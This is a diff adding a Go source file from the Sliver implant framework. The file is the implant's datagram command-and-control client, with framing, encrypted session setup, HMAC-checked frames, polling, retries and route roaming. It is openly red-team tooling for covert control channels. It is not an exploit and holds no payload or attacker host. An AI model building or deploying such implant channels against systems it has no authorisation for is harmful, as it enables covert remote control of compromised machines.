@@ -0,0 +1,398 @@
+package datagram
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/binary"
+	"errors"
+	insecureRand "math/rand"
+	"net/url"
+	"strconv"
+	"sync"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/cryptography"
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	// Frames start with a magic so we can tell them apart from other traffic
+	// (e.g. regular pings), must match the server's datagram c2
+	frameMagic      = 0x51c3
+	frameHeaderSize = 11
+
+	frameInit      = 1
+	frameInitReply = 2
+	frameData      = 3
+	frameDataReply = 4
+	frameClose     = 5
+
+	// Frames of a session end with a truncated hmac-sha256 of the frame
+	frameMACSize = 16
+
+	// Keep frames well under the usual mtu so they're not fragmented
+	maxChunkSize = 1024
+)
+
+var (
+	ErrClosed  = errors.New("datagram session closed")
+	ErrTimeout = errors.New("datagram timeout")
+)
+
+// Socket - Sends and receives frames, this is the only part of the client that's
+// specific to a transport
+type Socket interface {
+	// WriteFrame - Send a frame to the server
+	WriteFrame(frame []byte) error
+	// ReadFrame - The next frame from the server, ErrTimeout once the deadline passes
+	ReadFrame(deadline time.Time) ([]byte, error)
+	Close() error
+}
+
+// Roamer - Sockets that can move to another route when the network changes, Roam
+// is called before each poll with a nil error and before a frame is retransmitted
+// with the reason the last attempt failed
+type Roamer interface {
+	Roam(err error)
+}
+
+// Options - c2 specific configuration options
+type Options struct {
+	PollInterval time.Duration
+	Timeout      time.Duration
+	RetryCount   int
+	MaxErrors    int
+}
+
+// ParseOptions - Parse c2 specific configuration options
+func ParseOptions(c2URI *url.URL) Options {
+	pollInterval, err := time.ParseDuration(c2URI.Query().Get("poll-interval"))
+	if err != nil || pollInterval <= 0 {
+		pollInterval = time.Second
+	}
+	timeout, err := time.ParseDuration(c2URI.Query().Get("timeout"))
+	if err != nil || timeout <= 0 {
+		timeout = time.Second * 3
+	}
+	retryCount, err := strconv.Atoi(c2URI.Query().Get("retry-count"))
+	if err != nil || retryCount < 1 {
+		retryCount = 3
+	}
+	maxErrors, err := strconv.Atoi(c2URI.Query().Get("max-errors"))
+	if err != nil || maxErrors < 0 {
+		maxErrors = 10
+	}
+	return Options{
+		PollInterval: pollInterval,
+		Timeout:      timeout,
+		RetryCount:   retryCount,
+		MaxErrors:    maxErrors,
+	}
+}
+
+// Client - Tunnels envelopes through request/reply frames, each frame carries the
+// next chunk of data for the server and is acknowledged by a reply with the same
+// sequence number that carries the next chunk for the implant. The server knows the
+// session by its id, not the socket's address.
+type Client struct {
+	socket    Socket
+	opts      Options
+	cipherCtx *cryptography.CipherContext
+	macKey    []byte
+
+	sessionID uint32
+	seq       uint32
+
+	exchangeMutex sync.Mutex
+	bufferMutex   sync.Mutex
+	upstream      []byte
+	downstream    []byte
+	closed        bool
+}
+
+// StartSession - Start a session with the server over the socket, the socket is
+// closed if the session can't be started
+func StartSession(socket Socket, opts Options) (*Client, error) {
+	client := &Client{
+		socket: socket,
+		opts:   opts,
+	}
+	err := client.sessionInit()
+	if err != nil {
+		socket.Close()
+		return nil, err
+	}
+	return client, nil
+}
+
+// SessionID - The id the server knows the session by
+func (c *Client) SessionID() uint32 {
+	return c.sessionID
+}
+
+// sessionInit - Send the session key to the server, the server replies with the
+// session id encrypted with the session key
+func (c *Client) sessionInit() error {
+	sKey := cryptography.RandomKey()
+	c.cipherCtx = cryptography.NewCipherContext(sKey)
+	encryptedKey, err := cryptography.ECCEncryptToServer(sKey[:])
+	if err != nil {
+		return err
+	}
+	nonce := insecureRand.Uint32()
+	reply, err := c.exchange(frameInit, nonce, 0, encryptedKey)
+	if err != nil {
+		return err
+	}
+	sessionID, err := c.cipherCtx.Decrypt(reply)
+	if err != nil || len(sessionID) != 4 {
+		return errors.New("invalid session init reply")
+	}
+	c.sessionID = binary.BigEndian.Uint32(sessionID)
+	c.macKey = frameKey(sKey[:])
+	// {{if .Config.Debug}}
+	log.Printf("[datagram] started session %d", c.sessionID)
+	// {{end}}
+	return nil
+}
+
+// WriteEnvelope - Send an envelope to the server, blocks until it's been sent
+func (c *Client) WriteEnvelope(envelope *pb.Envelope) error {
+	data, err := proto.Marshal(envelope)
+	if err != nil {
+		return err
+	}
+	ciphertext, err := c.cipherCtx.Encrypt(data)
+	if err != nil {
+		return err
+	}
+	message := make([]byte, 4+len(ciphertext))
+	binary.LittleEndian.PutUint32(message, uint32(len(ciphertext)))
+	copy(message[4:], ciphertext)
+
+	c.bufferMutex.Lock()
+	c.upstream = append(c.upstream, message...)
+	c.bufferMutex.Unlock()
+	for c.pending() {
+		if err := c.poll(); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// ReadEnvelope - Poll the server until it sends us an envelope
+func (c *Client) ReadEnvelope() (*pb.Envelope, error) {
+	for {
+		envelope, err := c.nextEnvelope()
+		if envelope != nil || err != nil {
+			return envelope, err
+		}
+		if !c.pending() {
+			time.Sleep(c.opts.PollInterval)
+		}
+		if err := c.poll(); err != nil {
+			return nil, err
+		}
+	}
+}
+
+// CloseSession - Tell the server we're done, this is best effort
+func (c *Client) CloseSession() error {
+	c.exchangeMutex.Lock()
+	defer c.exchangeMutex.Unlock()
+	if c.closed {
+		return nil
+	}
+	c.closed = true
+	c.socket.WriteFrame(c.seal(frame(frameClose, c.sessionID, c.seq+1, nil)))
+	return c.socket.Close()
+}
+
+func (c *Client) pending() bool {
+	c.bufferMutex.Lock()
+	defer c.bufferMutex.Unlock()
+	return 0 < len(c.upstream)
+}
+
+// poll - Send the next chunk of upstream data and keep whatever the server sent back
+func (c *Client) poll() error {
+	c.exchangeMutex.Lock()
+	defer c.exchangeMutex.Unlock()
+	if c.closed {
+		return ErrClosed
+	}
+	if roamer, ok := c.socket.(Roamer); ok {
+		roamer.Roam(nil)
+	}
+	c.bufferMutex.Lock()
+	chunk := c.upstream
+	if maxChunkSize < len(chunk) {
+		chunk = chunk[:maxChunkSize]
+	}
+	c.bufferMutex.Unlock()
+
+	reply, err := c.exchange(frameData, c.sessionID, c.seq+1, chunk)
+	if err != nil {
+		return err
+	}
+	c.seq++
+	c.bufferMutex.Lock()
+	c.upstream = c.upstream[len(chunk):]
+	c.downstream = append(c.downstream, reply...)
+	c.bufferMutex.Unlock()
+	return nil
+}
+
+// nextEnvelope - Decrypt the next complete message from the server, if there is one
+func (c *Client) nextEnvelope() (*pb.Envelope, error) {
+	c.bufferMutex.Lock()
+	if len(c.downstream) < 4 {
+		c.bufferMutex.Unlock()
+		return nil, nil
+	}
+	size := int(binary.LittleEndian.Uint32(c.downstream))
+	if len(c.downstream) < 4+size {
+		c.bufferMutex.Unlock()
+		return nil, nil
+	}
+	ciphertext := c.downstream[4 : 4+size]
+	c.downstream = c.downstream[4+size:]
+	c.bufferMutex.Unlock()
+
+	data, err := c.cipherCtx.Decrypt(ciphertext)
+	if err != nil {
+		return nil, err
+	}
+	envelope := &pb.Envelope{}
+	err = proto.Unmarshal(data, envelope)
+	if err != nil {
+		return nil, err
+	}
+	return envelope, nil
+}
+
+// exchange - Send a frame and wait for the matching reply, retrying on timeouts,
+// only one frame can be in flight at a time. Sockets that roam may move to a new
+// route before a retry, other sockets give up on anything but a timeout.
+func (c *Client) exchange(frameType uint8, session uint32, seq uint32, data []byte) ([]byte, error) {
+	roamer, roams := c.socket.(Roamer)
+	var err error
+	for attempt := 0; attempt < c.opts.RetryCount; attempt++ {
+		if 0 < attempt {
+			if roams {
+				roamer.Roam(err)
+			} else if err != ErrTimeout {
+				return nil, err
+			}
+		}
+		err = c.socket.WriteFrame(c.seal(frame(frameType, session, seq, data)))
+		if err == nil {
+			var reply []byte
+			reply, err = c.readReply(frameType+1, session, seq)
+			if err == nil {
+				return reply, nil
+			}
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[datagram] no reply to seq %d (attempt %d): %s", seq, attempt+1, err)
+		// {{end}}
+	}
+	return nil, err
+}
+
+// readReply - Wait for the server's reply, anything that isn't the reply we're
+// waiting for (e.g. a late reply to a retransmission) is ignored
+func (c *Client) readReply(frameType uint8, session uint32, seq uint32) ([]byte, error) {
+	deadline := time.Now().Add(c.opts.Timeout)
+	for {
+		reply, err := c.socket.ReadFrame(deadline)
+		if err != nil {
+			return nil, err
+		}
+		reply, ok := c.open(reply)
+		if !ok {
+			continue
+		}
+		replyType, replySession, replySeq, data, ok := parseFrame(reply)
+		if !ok || replyType != frameType || replySession != session || replySeq != seq {
+			continue
+		}
+		return append([]byte{}, data...), nil
+	}
+}
+
+// seal - Append the mac to a frame, the init frames are authenticated by the key
+// exchange so there's no mac until the session is started
+func (c *Client) seal(frame []byte) []byte {
+	if c.macKey == nil {
+		return frame
+	}
+	return append(frame, frameMAC(c.macKey, frame)...)
+}
+
+// open - Check and strip the mac of a frame from the server
+func (c *Client) open(frame []byte) ([]byte, bool) {
+	if c.macKey == nil {
+		return frame, true
+	}
+	if len(frame) < frameHeaderSize+frameMACSize {
+		return nil, false
+	}
+	body := frame[:len(frame)-frameMACSize]
+	return body, hmac.Equal(frameMAC(c.macKey, body), frame[len(body):])
+}
+
+// frameKey - Must match the server, the mac key is derived from the session key
+// so it's never used for both the cipher and the mac
+func frameKey(sessionKey []byte) []byte {
+	mac := hmac.New(sha256.New, sessionKey)
+	mac.Write([]byte("datagram frame mac"))
+	return mac.Sum(nil)
+}
+
+func frameMAC(key []byte, frame []byte) []byte {
+	mac := hmac.New(sha256.New, key)
+	mac.Write(frame)
+	return mac.Sum(nil)[:frameMACSize]
+}
+
+func frame(frameType uint8, session uint32, seq uint32, data []byte) []byte {
+	frame := make([]byte, frameHeaderSize+len(data))
+	binary.BigEndian.PutUint16(frame, frameMagic)
+	frame[2] = frameType
+	binary.BigEndian.PutUint32(frame[3:], session)
+	binary.BigEndian.PutUint32(frame[7:], seq)
+	copy(frame[frameHeaderSize:], data)
+	return frame
+}
+
+func parseFrame(frame []byte) (uint8, uint32, uint32, []byte, bool) {
+	if len(frame) < frameHeaderSize || binary.BigEndian.Uint16(frame) != frameMagic {
+		return 0, 0, 0, nil, false
+	}
+	return frame[2], binary.BigEndian.Uint32(frame[3:]), binary.BigEndian.Uint32(frame[7:]), frame[frameHeaderSize:], true
+}